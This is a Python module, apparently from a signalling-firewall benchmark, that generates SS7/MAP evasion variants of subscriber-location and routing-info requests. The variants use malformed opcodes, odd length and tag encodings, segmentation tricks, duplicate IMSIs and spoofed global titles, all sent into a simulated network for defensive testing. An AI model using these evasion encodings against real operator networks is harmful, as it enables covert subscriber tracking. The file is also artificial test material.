"""The same attacks encoded to pass a firewall: no encoding may get a weaker verdict than the plainest one."""

from collections.abc import Callable

from bench import encode
from bench.attacks import attack, interrogation, map_begin
from bench.encode import (
    Party,
    begin,
    continue_,
    end,
    invoke,
    map_context,
    map_open,
    request,
    result,
    segmented,
    tlv,
    udt,
    udts,
    xudt,
)
from bench.templates import argument
from bench.world import CAP_SSN, GSMSCF, HLR, HOME, MSC, VLR, Message, World, imsi, number

ATI, ATI_CONTEXT = 71, map_context(29, 3)


def _argument(w: World) -> bytes:
    return argument("anyTimeInterrogation", msisdn=number(w.home_msisdn()), node=number(w.stranger()))


def _send(w: World, data: bytes, technique: str, ssn: int = GSMSCF) -> list[Message]:
    return attack([udt(w.to(HLR), Party(w.stranger(), ssn), data)], "evasion", technique)


def _component(opcode: bytes, arg: bytes) -> bytes:
    return tlv(0xA1, b"\x02\x01\x01", opcode, arg)


OPCODES = {
    "global_opcode": b"\x06\x07\x04\x00\x00\x01\x00\x1d\x47",
    "opcode_of_another_class": b"\x82\x01\x47",
    "padded_opcode": b"\x02\x02\x00\x47",
    "padded_opcode_4": b"\x02\x04\x00\x00\x00\x47",
    "negative_opcode": b"\x02\x01\xb9",
    "opcode_above_255": b"\x02\x02\x01\x47",
    "long_form_opcode": b"\x02\x81\x01\x47",
}


def opcode_form(w: World) -> list[Message]:
    technique = w.rng.choice(list(OPCODES))
    data = begin(w.tid(), request(ATI_CONTEXT), _component(OPCODES[technique], _argument(w)))
    return _send(w, data, technique)


def _bare_request() -> bytes:
    """An AARQ without its protocol-version."""
    return tlv(0x6B, tlv(0x28, encode.DIALOGUE_AS, tlv(0xA0, tlv(0x60, tlv(0xA1, tlv(6, ATI_CONTEXT))))))


def context_form(w: World) -> list[Message]:
    technique, dialogue = w.rng.choice(
        (
            ("extended_acn", request(ATI_CONTEXT + b"\x01\x01")),
            ("no_dialogue", b""),
            ("acn_of_harmless_context", request(map_context(20, 3))),
            ("unknown_acn", request(bytes.fromhex("2a863a00896133"))),
            ("acn_version_9", request(map_context(29, 9))),
            ("no_protocol_version", _bare_request()),
        )
    )
    return _send(w, begin(w.tid(), dialogue, invoke(ATI, _argument(w))), technique)


def transaction_form(w: World) -> list[Message]:
    arg = _argument(w)
    technique, tid = w.rng.choice((("long_otid", w.rng.randbytes(5)), ("empty_otid", b"")))
    return _send(w, begin(tid, request(ATI_CONTEXT), invoke(ATI, arg)), technique)


def package(w: World) -> list[Message]:
    component = invoke(ATI, _argument(w))
    technique, data = w.rng.choice(
        (
            ("invoke_in_continue", continue_(w.tid(), w.tid(), b"", component)),
            ("invoke_in_end", end(w.tid(), b"", component)),
            ("invoke_in_unidirectional", tlv(0x61, tlv(0x6C, component))),
        )
    )
    return _send(w, data, technique)


def several_components(w: World) -> list[Message]:
    arg = _argument(w)
    harmless = invoke(59, argument("ussdOf", msisdn=number(w.home_msisdn())))
    technique, first = w.rng.choice(
        (
            ("second_component", harmless),
            ("result_before_invoke", result(71)),
            ("unknown_component_first", tlv(0xA9, b"\x02\x01\x00")),
            ("many_components", harmless),
        )
    )
    components = [first] * (1 if technique != "many_components" else 5)
    data = begin(w.tid(), request(map_context(19, 2)), *components, invoke(ATI, arg, 9))
    if len(data) > 250:
        return attack(segmented(w.to(HLR), Party(w.stranger(), VLR), data, w.reference(), 2), "evasion", technique)
    return _send(w, data, technique, VLR)


def many_invokes(w: World) -> list[Message]:
    components = [tlv(0xA1, bytes((2, 1, n, 2, 1, 45))) for n in range(20)]
    return _send(w, begin(w.tid(), b"", *components), "too_many_components", MSC)


def subsystem(w: World) -> list[Message]:
    data = interrogation(w)
    to = w.to(HLR)
    technique, called = w.rng.choice(
        (
            ("no_ssn", to.on(ssn=None)),
            ("ssn_0", to.on(ssn=0)),
            ("ssn_254", to.on(ssn=254)),
            ("ssn_of_camel", to.on(ssn=CAP_SSN)),
            ("ssn_of_management", to.on(ssn=1)),
            ("route_on_ssn", to.on(on_ssn=True, pc=8202)),
        )
    )
    return attack([udt(called, Party(w.stranger(), GSMSCF), data)], "evasion", technique)


def _indefinite(tag: int, *parts: bytes) -> bytes:
    return bytes((tag, 0x80)) + b"".join(parts) + b"\0\0"


def _long(octets: int) -> Callable[..., bytes]:
    def build(tag: int, *parts: bytes) -> bytes:
        content = b"".join(parts)
        return bytes((tag, 0x80 | octets)) + len(content).to_bytes(octets, "big") + content

    return build


def lengths(w: World) -> list[Message]:
    technique, build = w.rng.choice(
        (("indefinite_lengths", _indefinite), ("length_81", _long(1)), ("length_82", _long(2)), ("length_84", _long(4)))
    )
    arg = _argument(w)
    dialogue = build(0x6B, build(0x28, encode.DIALOGUE_AS, build(0xA0, tlv(0x60, tlv(0xA1, tlv(6, ATI_CONTEXT))))))
    component = build(0xA1, b"\x02\x01\x01\x02\x01\x47", arg[:1] + build(0, arg[2:])[1:])
    data = build(0x62, tlv(0x48, w.tid()), dialogue, build(0x6C, component))
    return _send(w, data, technique)


def tags(w: World) -> list[Message]:
    arg = _argument(w)
    component = invoke(ATI, arg)
    technique, data = w.rng.choice(
        (
            ("high_tag_number", begin(w.tid(), b"", b"\xbf\x01" + component[1:])),
            ("trailing_octets", begin(w.tid(), request(ATI_CONTEXT), component) + b"\0\0\0"),
            ("empty_component_portion", tlv(0x62, tlv(0x48, w.tid()), tlv(0x6C))),
            ("component_portion_twice", tlv(0x62, tlv(0x48, w.tid()), tlv(0x6C, result(71)), tlv(0x6C, component))),
            ("result_in_begin", begin(w.tid(), request(ATI_CONTEXT), result(71, arg))),
            ("deep_nesting", begin(w.tid(), b"", invoke(45, b"\x30\x80" * 40 + b"\0\0" * 40))),
        )
    )
    return _send(w, data, technique)


def two_identities(w: World) -> list[Message]:
    """A roamer's IMSI in front, ours behind: the worst of both."""
    network = w.partner()
    sender = Party(w.node(network), HLR)
    theirs, ours = imsi(network.imsi(w.rng)), imsi(w.home_imsi())
    arg = argument("provideSubscriberInfo", imsi=theirs)
    twice = tlv(0x30, arg[2:12], tlv(0x80, ours), arg[12:])
    opened = map_open(b"\x96" + ours, number(sender.digits))
    technique, data = w.rng.choice(
        (
            ("imsi_twice", begin(w.tid(), request(map_context(28, 3)), invoke(70, twice))),
            ("imsi_of_dialogue_differs", begin(w.tid(), request(map_context(28, 3), opened), invoke(70, arg))),
        )
    )
    return attack([udt(w.to(VLR), sender, data)], "evasion", technique)


def cancel_without_imsi(w: World) -> list[Message]:
    sender = Party(w.node(w.partner()), HLR)
    data = map_begin(w, (2, 3), 3, tlv(0xA3, b"\x0a\x01\x00"))
    return attack([udt(w.to(VLR), sender, data)], "evasion", "imsi_missing")


def segmentation(w: World) -> list[Message]:
    """The operation code stands in the second segment, or the last segment never comes."""
    calling, data = Party(w.stranger(), GSMSCF), interrogation(w)
    count = w.rng.randrange(2, 6)
    parts = segmented(w.to(HLR), calling, data, w.reference(), count)
    technique = w.rng.choice(("segments", "segments", "segments_out_of_order", "last_segment_lost"))
    if technique == "segments_out_of_order":
        parts = [parts[0], *parts[:0:-1]] if len(parts) > 2 else parts[::-1]
    lost = technique == "last_segment_lost"
    return [Message(parts[:-1] if lost else parts, "attack", "evasion", technique, lost)]


def service_message(w: World) -> list[Message]:
    data, calling = interrogation(w), Party(w.stranger(), GSMSCF)
    if w.rng.random() < 0.5:
        return attack([udts(w.to(HLR), calling, data, 1)], "evasion", "invoke_in_udts")
    return attack([xudt(w.to(HLR), calling, data, w.rng.randrange(1, 16), kind=0x12)], "evasion", "invoke_in_xudts")


def own_address_dressed_up(w: World) -> list[Message]:
    """Our own GT as the sender's, in another plan or form."""
    digits = HOME.node(10 + w.rng.randrange(40))
    technique, calling = w.rng.choice(
        (
            ("own_gt_in_e214", Party("4477009" + str(w.rng.randrange(10**8)).rjust(8, "0"), HLR, np=7)),
            ("own_gt_national", Party(digits[2:], HLR, nai=3)),
            ("own_gt_with_00", Party("00" + digits, HLR, nai=0)),
            ("own_gt_gti_1", Party(digits, HLR, gti=1)),
            ("own_gt_gti_3", Party(digits, HLR, gti=3)),
            ("own_gt_odd_flag", Party(digits, HLR, odd=True)),
            ("own_gt_tt_9", Party(digits, HLR, tt=9)),
        )
    )
    arg = argument("sendRoutingInfoForSM", msisdn=number(w.home_msisdn()), centre=number(digits))
    data = map_begin(w, (20, 3), 45, arg)
    return attack([udt(w.to(HLR), calling, data)], "evasion", technique)


KINDS: dict[Callable[[World], list[Message]], int] = {
    opcode_form: 10,
    context_form: 8,
    transaction_form: 3,
    package: 5,
    several_components: 6,
    many_invokes: 1,
    subsystem: 6,
    lengths: 7,
    tags: 6,
    two_identities: 4,
    cancel_without_imsi: 2,
    segmentation: 8,
    service_message: 4,
    own_address_dressed_up: 8,
}
